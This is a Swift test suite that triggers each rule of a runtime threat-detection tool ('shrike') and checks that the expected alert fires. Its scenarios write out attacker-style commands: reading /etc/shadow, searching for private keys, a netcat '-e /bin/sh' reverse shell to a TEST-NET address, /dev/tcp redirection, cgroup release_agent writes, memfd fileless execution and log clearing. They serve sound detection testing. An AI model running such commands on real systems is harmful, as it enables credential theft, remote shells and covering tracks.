import Foundation
import ShrikeTestSupport
import Testing

/// Each behaviour the default ruleset watches for, performed for real and safely (temporary files, TEST-NET
/// addresses, a container from the Alpine minirootfs), under `shrike watch --json` with the default rules; the
/// expected rule must fire, with the fields that say what happened.
@Suite("Default rules: each behaviour fires its rule", .serialized,
       .enabled(if: geteuid() == 0 && FileManager.default.fileExists(atPath: "/sys/kernel/btf/vmlinux"),
                "needs root and kernel BTF to load the eBPF sensor"),
       .timeLimit(.minutes(10)))
struct DefaultRuleScenarioTests {
    /// A behaviour on the host: a shell script run in a fresh temporary directory (`$D`), watched by pid.
    struct HostScenario: CustomTestStringConvertible, Sendable {
        let rule: String
        let script: String
        /// Text the alert's output must contain (`$D` is replaced by the directory).
        let expected: [String]
        var testDescription: String { rule }
    }

    static let python = "python3 -c"

    static let hostScenarios: [HostScenario] = [
        HostScenario(rule: "Binary directory changed",
                     script: "f=/usr/local/bin/shrike-scenario-$$; echo x > $f; chmod 755 $f; rm -f $f",
                     expected: ["/usr/local/bin/shrike-scenario-", "proc=sh"]),
        HostScenario(rule: "Binary directory changed",
                     script: "echo x > x; mv x /usr/local/sbin/shrike-moved-$$; rm -f /usr/local/sbin/shrike-moved-$$",
                     expected: ["/usr/local/sbin/shrike-moved-", "evt.type=rename"]),
        HostScenario(rule: "Library directory changed",
                     script: "f=/usr/local/lib/shrike-scenario-$$.so; echo x > $f; rm -f $f",
                     expected: ["/usr/local/lib/shrike-scenario-", "proc=sh"]),
        HostScenario(rule: "Sensitive file read by an untrusted program",
                     script: "cat /etc/shadow > /dev/null",
                     expected: ["file=/etc/shadow", "proc=cat"]),
        HostScenario(rule: "Directory traversal to a sensitive file",
                     script: "exec python3 -c \"open('../../../../../../etc/shadow').read()\"",
                     expected: ["file=/etc/shadow", "path_as_given=../../../../../../etc/shadow"]),
        HostScenario(rule: "Symlink or hard link over a sensitive file",
                     script: "ln -s /etc/shadow shadow-link",
                     expected: ["/etc/shadow", "proc=ln"]),
        HostScenario(rule: "Search for private keys or passwords",
                     script: "grep -r 'BEGIN OPENSSH PRIVATE KEY' . || true",
                     expected: ["proc=grep", "BEGIN OPENSSH PRIVATE KEY"]),
        HostScenario(rule: "Interactive session of a system user",
                     script: "script -qec 'setpriv --reuid=65534 --regid=65534 --clear-groups /bin/true' /dev/null",
                     expected: ["user=nobody", "proc=true"]),
        HostScenario(rule: "Netcat or socat remote code execution",
                     script: "ln -s /bin/true nc; ./nc -e /bin/sh 192.0.2.1 4444",
                     expected: ["proc=nc", "-e /bin/sh"]),
        HostScenario(rule: "Standard input or output redirected to a network connection",
                     script: """
                        python3 -c "import socket,time; s=socket.socket(); s.bind(('127.0.0.1',0)); s.listen(1); \
                        open('port','w').write(str(s.getsockname()[1])); c,_=s.accept(); time.sleep(1)" &
                        while [ ! -s port ]; do sleep 0.05; done
                        bash -c "exec 3<>/dev/tcp/127.0.0.1/$(cat port); exec 1>&3; echo hi"; wait
                        """,
                     expected: ["proc=bash", "fd=1"]),
        HostScenario(rule: "SSH connection to a non-standard port",
                     script: """
                        python3 -c "import socket; s=socket.socket(); s.bind(('192.0.2.2',0)); s.listen(1); \
                        open('port','w').write(str(s.getsockname()[1])); c,_=s.accept(); c.close()" &
                        while [ ! -s port ]; do sleep 0.05; done
                        ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2 \
                            -p $(cat port) shrike@192.0.2.2 true 2>/dev/null; wait
                        """,
                     expected: ["proc=ssh", "192.0.2.2"]),
        HostScenario(rule: "Log file cleared",
                     script: "f=/var/log/shrike-scenario-$$.log; echo old > $f; : > $f; rm -f $f",
                     expected: ["/var/log/shrike-scenario-", "O_TRUNC"]),
        HostScenario(rule: "Bulk data removal",
                     script: "echo secret > doomed; shred -u doomed",
                     expected: ["proc=shred"]),
        HostScenario(rule: "Kernel module load attempt",
                     script: """
                        python3 -c "import ctypes, os; fd = os.open('/dev/null', os.O_RDONLY); \
                        ctypes.CDLL(None, use_errno=True).syscall(313, fd, b'', 0)"
                        """,
                     expected: ["evt.type=finit_module", "proc=python3"]),
        HostScenario(rule: "Cgroup release_agent written",
                     script: "echo /tmp/evil > release_agent",
                     expected: ["release_agent", "proc=sh"]),
        HostScenario(rule: "Process attached with ptrace",
                     script: """
                        python3 -c "import ctypes, subprocess; p = subprocess.Popen(['sleep', '5']); \
                        libc = ctypes.CDLL(None, use_errno=True); libc.ptrace(16, p.pid, 0, 0); p.kill()"
                        """,
                     expected: ["request=PTRACE_ATTACH", "proc=python3"]),
        HostScenario(rule: "Anti-debugging with PTRACE_TRACEME",
                     script: "python3 -c \"import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)\"",
                     expected: ["PTRACE_TRACEME", "proc=python3"]),
        HostScenario(rule: "Execution from /dev/shm",
                     script: "f=/dev/shm/shrike-scenario-$$; cp /bin/true $f; $f; rm -f $f",
                     expected: ["exe=/dev/shm/shrike-scenario-"]),
        HostScenario(rule: "Fileless execution via memfd_create",
                     script: """
                        python3 -c "import os; fd = os.memfd_create('payload'); \
                        os.write(fd, open('/bin/true','rb').read()); os.execv('/proc/self/fd/%d' % fd, ['payload'])"
                        """,
                     expected: ["exe=payload"]),
    ]

    @Test(arguments: hostScenarios)
    func hostBehaviour(_ scenario: HostScenario) throws {
        let directory = try ImageSourceFixtures.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let script = try GatedScript(scenario.script, in: directory)
        let watch = try WatchSession(["--pid", String(script.pid)])
        _ = script.go(timeout: 60)
        let expected = scenario.expected.map { $0.replacingOccurrences(of: "$D", with: directory) }
        let alert = watch.waitForAlert(scenario.rule) { alert in
            let output = alert["output"] as? String ?? ""
            return expected.allSatisfy { output.contains($0) }
        }
        let (status, stderr) = watch.stop()
        #expect(alert != nil, """
            no "\(scenario.rule)" alert containing \(expected); alerts: \
            \(watch.alerts.map { "\($0["rule"] ?? "?"): \($0["output"] ?? "")" }); stderr: \(stderr)
            """)
        #expect(status == 0, "shrike watch exited \(status): \(stderr)")
        if let alert {
            #expect(alert["source"] as? String == "syscall")
            #expect((alert["output_fields"] as? [String: Any])?.isEmpty == false)
            #expect((alert["time"] as? String)?.hasSuffix("Z") == true)
        }
    }

    /// A behaviour inside a container (podman with runc, the Alpine 3.20 minirootfs), watched by container name.
    struct ContainerScenario: CustomTestStringConvertible, Sendable {
        let rule: String
        let podmanOptions: [String]
        let command: String
        let expected: [String]
        /// Runs on the host before the container starts (a listener the container connects to).
        var hostListener = false
        var terminal = false
        var testDescription: String { rule }
    }

    static let containerScenarios: [ContainerScenario] = [
        ContainerScenario(rule: "Unexpected outbound connection from a container", podmanOptions: ["--network=host"],
                          command: "echo hi | nc 192.0.2.2 $PORT", expected: ["destination=192.0.2.2", "proc=nc"],
                          hostListener: true),
        ContainerScenario(rule: "Terminal shell in a container", podmanOptions: ["--network=none", "-t"],
                          command: "true", expected: ["proc=sh"], terminal: true),
        ContainerScenario(rule: "Packet socket created in a container", podmanOptions: ["--network=none"],
                          command: "arping -c 1 -w 1 -I lo 127.0.0.1 || true", expected: ["proc=arping", "result="]),
        ContainerScenario(rule: "New executable dropped and run in a container", podmanOptions: ["--network=none"],
                          // Named like an applet: busybox picks its applet by argv[0], and a copy called anything
                          // else exits at once ("applet not found"), racing the check of its container's layers.
                          command: "cp /bin/busybox /usr/local/bin/sleep && /usr/local/bin/sleep 1",
                          expected: ["exe=/usr/local/bin/sleep"]),
    ]

    static let podmanCommon = ["--cgroup-manager=cgroupfs", "--events-backend=file"]

    @Test(arguments: containerScenarios)
    func containerBehaviour(_ scenario: ContainerScenario) throws {
        let podman = try #require(ExternalTool.find("podman"), "podman (with runc) runs the container")
        let image = "localhost/shrike-rules-alpine:test"
        let imported = try ExternalTool.run([podman] + Self.podmanCommon
                                            + ["import", RepositoryFiles.alpineRootfs("3.20.3"), image])
        try #require(imported.status == 0, "podman import failed: \(imported.stderr)")
        let name = "shrike-rules-\(UUID().uuidString.prefix(8).lowercased())"
        var command = scenario.command
        var listener: Process?
        // SIGKILL: the test runner may have SIGTERM ignored, and children inherit that.
        defer { if let listener { kill(listener.processIdentifier, SIGKILL) } }
        if scenario.hostListener {
            let (process, port) = try Self.listen(on: "192.0.2.2")
            listener = process
            command = command.replacingOccurrences(of: "$PORT", with: String(port))
        }
        let watch = try WatchSession(["--container", name])
        var arguments = [podman] + Self.podmanCommon + ["--runtime", "runc", "run", "--rm", "--name", name,
                         "--ulimit", "nofile=4096:4096", "--ulimit", "nproc=4096:4096"]
            + scenario.podmanOptions + [image, "sh", "-c", command]
        if scenario.terminal {
            // `-t` needs a terminal on our side too: script(1) gives podman one.
            arguments = ["/usr/bin/script", "-qec", arguments.map { "'\($0)'" }.joined(separator: " "), "/dev/null"]
        }
        let run = try ExternalTool.run(arguments)
        let alert = watch.waitForAlert(scenario.rule) { alert in
            let output = alert["output"] as? String ?? ""
            return scenario.expected.allSatisfy { output.contains($0) }
        }
        let (status, stderr) = watch.stop()
        #expect(alert != nil, """
            no "\(scenario.rule)" alert containing \(scenario.expected); podman: \(run.status) \(run.stderr); \
            alerts: \(watch.alerts.map { "\($0["rule"] ?? "?"): \($0["output"] ?? "")" }); stderr: \(stderr)
            """)
        #expect(status == 0)
        if let alert {
            let fields = alert["output_fields"] as? [String: Any] ?? [:]
            #expect((fields["container.id"] as? String).map { $0 != "host" && $0.count == 12 } == true)
        }
    }

    /// A TCP listener on `address` that accepts connections until terminated; returns it and its port.
    static func listen(on address: String) throws -> (Process, Int) {
        let directory = try ImageSourceFixtures.temporaryDirectory()
        let portFile = directory + "/port"
        let process = Process()
        // The system python, not a version manager's shim: a shim forks python, and terminating the shim would leave
        // the listener holding the test runner's output pipe. It also gives up by itself after 60 s without a peer.
        let python = FileManager.default.isExecutableFile(atPath: "/usr/bin/python3") ? "/usr/bin/python3"
            : try #require(ExternalTool.find("python3"))
        process.executableURL = URL(fileURLWithPath: python)
        process.standardInput = FileHandle.nullDevice
        process.standardOutput = FileHandle.nullDevice
        process.standardError = FileHandle.nullDevice
        process.arguments = ["-c", """
            import socket
            s = socket.socket(); s.bind(('\(address)', 0)); s.listen(8); s.settimeout(60)
            open('\(portFile)', 'w').write(str(s.getsockname()[1]))
            while True:
                try:
                    c, _ = s.accept(); c.close()
                except socket.timeout:
                    break
            """]
        try process.run()
        let deadline = Date().addingTimeInterval(10)
        while Date() < deadline {
            if let text = try? String(contentsOfFile: portFile, encoding: .utf8), let port = Int(text) {
                return (process, port)
            }
            Thread.sleep(forTimeInterval: 0.05)
        }
        process.terminate()
        throw WatchSessionError("the listener on \(address) did not start")
    }
}
